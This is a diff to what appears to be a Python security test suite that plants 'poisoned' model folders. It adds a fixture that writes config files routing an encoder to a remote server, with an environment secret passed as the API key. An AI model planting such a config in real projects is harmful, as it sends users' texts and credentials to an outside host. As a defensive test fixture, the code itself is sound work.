@@ -367,6 +367,14 @@ def kernels(world: World, folder: Path) -> None:
         _update(place / "config.json", attn_implementation=HUB_MODEL)
 
 
+def encoder_behind_a_server(world: World, folder: Path) -> None:
+    """Be an encoder whose server is sent the texts, and a secret of the reader's environment."""
+    facts = {"version": 1, "type": "http", "url": SERVER, "model": "m", "api": "openai",
+             "retries": 0, "api_key_env": SECRET}  # fmt: skip
+    for place in (*folder.glob("**/dense/encoder"), folder / "model"):
+        (place / "sluice.json").write_text(json.dumps(facts))
+
+
 # What the first refusal hides in a folder with everything: one at a time, with the verbs it is for.
 CONFIG = ("search", "reproduce", "report", "diagnose robust")
 PARTS = ("search", "verify", "add")
@@ -377,6 +385,7 @@ POISONS = {
     change_elsewhere: PARTS,
     names_with_dots: (*PARTS, "report"), model_with_code: MODELS, tokenizer_with_code: MODELS,
     modules_with_code: MODELS, adapters: MODELS, kernels: MODELS,
+    encoder_behind_a_server: (*PARTS, "explain", "data"),
 }  # fmt: skip
 EVERYTHING = (
     classes_in_the_config, measures_of_its_own, servers, classes_in_the_parts, modules_with_code,
